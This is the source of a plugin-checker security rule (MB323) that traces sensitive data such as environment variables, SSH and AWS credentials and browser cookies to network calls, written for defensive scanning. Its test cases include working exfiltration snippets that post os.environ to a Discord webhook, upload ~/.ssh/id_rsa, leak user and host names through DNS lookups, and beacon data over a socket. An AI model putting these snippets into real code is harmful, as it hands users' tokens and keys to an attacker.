"""Plugin-level security rule: sensitive data sent over the network (MB323).

The flows are found per file by :mod:`mbcheck.checks.security.collect_exfil`
(within a module: through its functions and module-level names) and kept in the
``exfil`` facts; this rule reports them, and follows the flows that cross
modules: a call passing sensitive data to another module's function whose
parameter reaches a sink, and a sink sending what another module's function
returns. It reads facts only (no libcst).
"""

from __future__ import annotations

from mbcheck.checks.security.facts_exfil import ExfilExport, ExfilFacts, ExfilSource
from mbcheck.context import PluginContext
from mbcheck.model import Category, Confidence, Severity, Span
from mbcheck.rules.base import Invalid, PluginRule, Valid

#: what a finding's message ends with (as :data:`mbcheck.checks.security.collect_exfil.ADVICE`)
_ADVICE = ("a plugin has no reason to send this. Remove the upload; send only what the user chose to share, "
           "to the plugin's own service, and say so in the plugin's description")


def _where(source: ExfilSource, here: str) -> str:
    verb = "listed" if source.listed else "read"
    place = f"line {source.span.line}" if source.span.path == here else f"{source.span.path}:{source.span.line}"
    return f"{verb} at {place}"


def _whats(sources: tuple[ExfilSource, ...]) -> str:
    whats = list(dict.fromkeys(s.what for s in sources))
    return whats[0] if len(whats) == 1 else ", ".join(whats[:-1][:3]) + " and " + whats[-1]


class Exfiltration(PluginRule):
    """Sends sensitive data over the network: environment variables, credential files, browser data, the user's or host's name.

    Follows what `os.environ` (a dump, a copy, an iteration), a file under
    `~/.ssh`, `~/.aws`, `~/.config/gcloud`, `.netrc`, `.git-credentials`, a browser
    profile (`Login Data`, `Cookies`, `cookies.sqlite`), Discord's
    `Local Storage/leveldb`, a wallet, `/etc/passwd`, a keyring, `getpass.getuser()`,
    `socket.gethostname()`, `platform.node()`/`uname()`, `uuid.getnode()` or the
    output of `whoami`/`hostname`/`ipconfig` hold, through assignments, f-strings
    and `%`/`+`/`.format`, `json.dumps`, `base64`, containers, comprehensions,
    `with open(...) as f`, files written then read back, the plugin's own functions
    (what they return, and their parameters that reach a sink, also across
    modules and through a thread's `target` or an executor's `submit`) and
    module-level names, class attributes and `self.` attributes, to a network call:
    an HTTP request's URL, body, parameters or headers (`requests`, `httpx`,
    `aiohttp`, `urllib`, `http.client`), a socket's `send`/`connect`, a DNS lookup
    (`gethostbyname`, `getaddrinfo`, `dns.resolver`, where the data is in the
    looked-up name), `smtplib`, `ftplib`, a webhook client, a `curl`/`wget`/`nc`
    command line. One environment variable by name (the plugin's own API token)
    counts only when its name looks like a credential, it is not in
    `headers`/`auth`/`cookies`, and it goes into a DNS name, to a suspicious
    endpoint, or with two other credentials. A digest of the data (`hashlib`) is
    not the data; the host looking up its own name is not a leak. The tables are
    data: `rules/security/exfiltration.json`.
    Why: this is what credential stealers do, and the data leaves as soon as the
    line runs: the user's tokens, keys and sessions are the attacker's.
    Instead: send only what the user chose to share, to the plugin's own service,
    and say in the plugin's description what is sent; authenticate with the
    plugin's own token in a header; hash an installation id instead of sending
    the host or user name.
    """

    code = "MB323"
    name = "exfiltration"
    category = Category.SECURITY
    severity = Severity.ERROR
    confidence = Confidence.HIGH
    VALID = (
        Valid("import os\nimport requests\n\nAPI = 'https://api.example.org/v1'\n\n"
              "def issues(project):\n"
              "    token = os.environ['EXAMPLE_API_TOKEN']\n"
              "    headers = {'Authorization': f'Bearer {token}'}\n"
              "    return requests.get(f'{API}/projects/{project}/issues', headers=headers, timeout=10).json()\n"),
        Valid("import json\nfrom pathlib import Path\nimport requests\n\n"
              "def settings():\n"
              "    return json.loads((Path.home() / '.config' / 'myplugin' / 'settings.json').read_text())\n\n"
              "def sync(url):\n"
              "    requests.post(url, json=settings(), timeout=10)\n"),
        Valid("import logging\nimport socket\n\nlog = logging.getLogger(__name__)\n\n"
              "def started():\n    log.info('started on %s', socket.gethostname())\n"),
        Valid("import hashlib\nimport platform\nimport requests\n\n"
              "def ping(url, version):\n"
              "    install = hashlib.sha256(platform.node().encode()).hexdigest()\n"
              "    agent = f'myplugin/{version} ({platform.system()})'\n"
              "    requests.post(url, json={'id': install}, headers={'User-Agent': agent}, timeout=5)\n"),
        Valid("import os\nimport httpx\n\ndef login(url):\n"
              "    data = {'client_id': os.environ['APP_CLIENT_ID'], 'client_secret': os.environ['APP_CLIENT_SECRET']}\n"
              "    return httpx.post(url, data=data).json()['access_token']\n"),
    )
    INVALID = (
        Invalid("import os\nimport requests\n\nHOOK = 'https://discord.com/api/webhooks/1093/AbCdEf'\n\n"
                "def report():\n    requests.post(HOOK, json={'content': str(dict(os.environ))})\n", line=7),
        Invalid("import os\nimport urllib.request\n\ndef backup():\n"
                "    with open(os.path.expanduser('~/.ssh/id_rsa')) as f:\n        key = f.read()\n"
                "    urllib.request.urlopen('https://example.org/k', data=key.encode())\n", line=7),
        Invalid("import getpass\nimport socket\n\n"
                "label = f'{getpass.getuser()}.{socket.gethostname()}'.replace('.', '-')\n"
                "socket.gethostbyname(label + '.oast.example')\n", line=5),
        Invalid("import base64\nimport os\nimport requests\n\n"
                "ENV = base64.b64encode(str(os.environ).encode())\n\n"
                "def send(payload):\n    requests.post('https://example.org/c', data=payload)\n\n"
                "def main():\n    send(ENV)\n", line=8),
        Invalid("import json\nimport os\nimport socket\n\n"
                "def collect():\n    return {k: v for k, v in os.environ.items()}\n\n"
                "def beacon(host):\n    s = socket.socket()\n    s.connect((host, 443))\n"
                "    s.sendall(json.dumps(collect()).encode())\n", line=11),
        Invalid("import glob\nimport os\nimport requests\n\n"
                "def grab():\n    files = {}\n"
                "    for path in glob.glob(os.path.expanduser('~/.aws/*')):\n"
                "        files[path] = open(path).read()\n"
                "    requests.post('https://example.org/u', json=files)\n", line=9),
        Invalid(files={
            "collect.py": "import os\n\ndef snapshot():\n    return {'env': dict(os.environ)}\n",
            "__init__.py": "import requests\nfrom .collect import snapshot\n\n"
                           "def register(url):\n    requests.post(url, json=snapshot(), timeout=5)\n",
        }, path="__init__.py", line=5),
        Invalid(files={
            "net.py": "import requests\n\ndef upload(body):\n    requests.post('https://example.org/u', data=body)\n",
            "__init__.py": "import getpass\nimport socket\nfrom . import net\n\n"
                           "def register():\n    net.upload(f'{getpass.getuser()}@{socket.gethostname()}')\n",
        }, path="net.py", line=4),
    )

    def check(self, plugin: PluginContext) -> None:
        facts = {path: module.exfil for path, module in plugin.module_facts() if module.exfil is not None}
        reported: set[Span] = set()
        for found in facts.values():
            for flow in found.flows:
                reported.add(flow.span)
                plugin.report(self, flow.span, flow.message, related=flow.related)
        exports: dict[str, ExfilExport] = {e.name: e for found in facts.values() for e in found.exports}
        self._passed(plugin, facts, exports, reported)
        self._returned(plugin, facts, exports, reported)

    def _passed(self, plugin: PluginContext, facts: dict[str, ExfilFacts], exports: dict[str, ExfilExport],
                reported: set[Span]) -> None:
        """Sensitive data passed to another module's function whose parameter reaches a sink."""
        for path, found in facts.items():
            for call in found.calls:
                export = exports.get(call.callee) or exports.get(f"{call.callee}.__init__")
                if export is None:
                    continue
                for param in export.params:
                    if param.span in reported or not (param.position == call.position or param.param == call.keyword):
                        continue
                    reported.add(param.span)
                    short = call.callee.rsplit(".", 1)[-1]
                    message = (f"sends {_whats(call.sources)} ({_where(call.sources[0], param.span.path)}) over the "
                               f"network at line {param.span.line} ({param.sink}, {param.argument}) through "
                               f"`{short}()` called at {path}:{call.line}: {_ADVICE}")
                    plugin.report(self, param.span, message, related=tuple(s.span for s in call.sources[:5]))

    def _returned(self, plugin: PluginContext, facts: dict[str, ExfilFacts], exports: dict[str, ExfilExport],
                  reported: set[Span]) -> None:
        """A sink sending what another module's function returns."""
        for found in facts.values():
            for sink in found.imported_sinks:
                sources = tuple(s for callee in sink.callees for s in (exports[callee].returns if callee in exports else ()))
                if not sources or sink.span in reported:
                    continue
                reported.add(sink.span)
                callee = next(c for c in sink.callees if c in exports and exports[c].returns).rsplit(".", 1)[-1]
                message = (f"sends {_whats(sources)} ({_where(sources[0], sink.span.path)}, returned by `{callee}()`) "
                           f"over the network at line {sink.span.line} ({sink.sink}, {sink.argument}): {_ADVICE}")
                plugin.report(self, sink.span, message, related=tuple(s.span for s in sources[:5]))


__all__ = ["Exfiltration"]
